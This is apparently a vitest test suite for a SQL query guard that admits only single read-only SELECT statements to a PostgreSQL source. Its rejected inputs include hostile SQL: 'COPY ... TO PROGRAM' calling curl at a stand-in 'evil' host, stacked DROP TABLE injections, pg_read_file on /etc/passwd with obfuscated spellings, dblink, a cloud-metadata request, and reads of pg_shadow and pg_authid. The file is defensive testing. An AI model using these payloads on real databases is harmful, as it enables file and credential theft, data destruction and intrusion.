import { describe, expect, it } from 'vitest';
import { checkedQuery } from './query-guard.js';

function refusal(text: string): Promise<unknown> {
  return checkedQuery(text).then(
    () => 'allowed',
    (error: unknown) => error,
  );
}

describe('what a query may be', () => {
  it.each([
    'SELECT * FROM sales',
    "select region, sum(amount) as total from shop.sales where day >= date_trunc('year', now()) group by 1 order by 2 desc limit 10",
    'WITH recent AS (SELECT * FROM sales) SELECT r.*, row_number() OVER (PARTITION BY region ORDER BY day) FROM recent r',
    'TABLE sales',
    "VALUES (1, 'a'), (2, 'b')",
    'SELECT a FROM x UNION ALL SELECT b FROM y',
    "SELECT payload ->> 'name', tags[1], extract(year FROM day), trim(both ' ' FROM name), day AT TIME ZONE 'UTC' FROM t",
    'SELECT (SELECT max(x) FROM u WHERE u.id = t.id), CASE WHEN a THEN 1 END, coalesce(b, 0), CAST(c AS numeric) FROM t',
    'SELECT x FROM t TABLESAMPLE bernoulli (10) REPEATABLE (1), LATERAL unnest(t.items) AS x',
    'SELECT pg_catalog.lower(name) FROM t',
    "SELECT 'COPY t TO PROGRAM ''x''; pg_sleep(600)' AS text -- pg_read_file('x')",
  ])('takes %j', async (text) => {
    expect(await checkedQuery(text)).toBe(text);
  });

  it('takes one semicolon at the end, and leaves it away, whatever characters stand before it', async () => {
    expect(await checkedQuery("SELECT 'Zürich – 東京' AS town; ")).toBe("SELECT 'Zürich – 東京' AS town");
    expect(await checkedQuery('/* first */ SELECT 1;;')).toBe('SELECT 1');
  });
});

describe('what a query may not be', () => {
  it.each([
    ['', 'empty'],
    [' ; -- nothing', 'empty'],
    ['SELEC 1', 'cannot be read'],
    ['SELECT 1; SELECT 2', 'more than one statement'],
    ['SELECT 1; DROP TABLE t', 'more than one statement'],
    // Were backslashes escapes, this would be one text.
    ["SELECT 'a\\'; DROP TABLE t; --'", 'more than one statement'],
    ["COPY t TO PROGRAM 'curl http://evil'", 'not a SELECT'],
    ["COPY (SELECT 1) TO '/tmp/x'", 'not a SELECT'],
    ['DELETE FROM t', 'not a SELECT'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'not a SELECT'],
    ['DO $$ BEGIN PERFORM pg_sleep(1); END $$', 'not a SELECT'],
    ['SET statement_timeout = 0', 'not a SELECT'],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'DELETE is not allowed'],
    [
      'SELECT * FROM (WITH n AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM n) q',
      'INSERT is not allowed',
    ],
    ['SELECT * INTO copy FROM t', 'SELECT INTO'],
    ['SELECT 1 INTO copy UNION SELECT 2', 'SELECT INTO'],
    ['SELECT * FROM t FOR UPDATE', 'lock rows'],
    ['SELECT * FROM (SELECT * FROM t FOR SHARE) q', 'lock rows'],
    ['SELECT $1', 'parameter'],
    ['SELECT 1\0', 'NUL'],
    ['SELECT 1 -- '.padEnd(50_001, 'x'), 'more than 50000 characters'],
    [`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`, 'cannot be read'],
  ])('refuses %.60j', async (text, reason) => {
    expect(await refusal(text)).toMatchObject({
      kind: 'invalid',
      code: 'data_sources.query_refused',
      message: expect.stringContaining(reason) as string,
    });
  });

  it.each([
    "pg_read_file('/etc/passwd')",
    "pg_catalog.pg_read_binary_file('/etc/passwd')",
    '"pg_read_file"(\'/etc/passwd\')',
    'U&"\\0070g_read_file"(\'/etc/passwd\')',
    "pg_ls_dir('/')",
    "lo_import('/etc/passwd')",
    "lo_export(1, '/tmp/x')",
    "dblink('host=evil', 'select 1')",
    "dblink_connect('host=evil')",
    'pg_sleep(600)',
    "pg_sleep_for('10 minutes')",
    "set_config('statement_timeout', '0', false)",
    "current_setting('data_directory')",
    "query_to_xml('select pg_sleep(600)', true, true, '')",
    "ts_stat('select pg_read_file($$/etc/passwd$$)::tsvector')",
    "ts_rewrite('a'::tsquery, 'select 1')",
    'pg_terminate_backend(1)',
    'pg_advisory_lock(1)',
    "nextval('s')",
    "pg_logical_emit_message(false, 'a', 'b')",
    "http_get('http://169.254.169.254/')",
    'shop.lower(name)',
    "('/etc/passwd'::text).pg_read_file",
    '(600.0::float8).pg_sleep',
    '(SELECT (town).name FROM t)',
    'count(*) FILTER (WHERE pg_sleep(1) IS NULL)',
    'sum(1) OVER (ORDER BY pg_sleep(1))',
    '(SELECT 1 FROM t ORDER BY pg_sleep(1) LIMIT 1)',
    'ARRAY(SELECT pg_sleep(1))',
  ])('refuses a query that calls %j', async (call) => {
    expect(await refusal(`SELECT ${call} FROM t`)).toMatchObject({ code: 'data_sources.query_refused' });
    expect(await refusal(`SELECT 1 FROM t WHERE (${call}) IS NULL`)).toMatchObject({
      code: 'data_sources.query_refused',
    });
  });

  it.each(['pg_shadow', 'pg_catalog.pg_authid', 'pg_hba_file_rules', 'pg_toast.pg_toast_1'])(
    'refuses to read %s',
    async (table) => {
      expect(await refusal(`SELECT * FROM ${table}`)).toMatchObject({ code: 'data_sources.query_refused' });
      expect(await refusal(`SELECT 1 FROM t JOIN ${table} ON true`)).toMatchObject({
        code: 'data_sources.query_refused',
      });
    },
  );

  it('still answers after a text that broke the parser', async () => {
    await refusal(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`);
    expect(await checkedQuery('SELECT 1')).toBe('SELECT 1');
  });
});
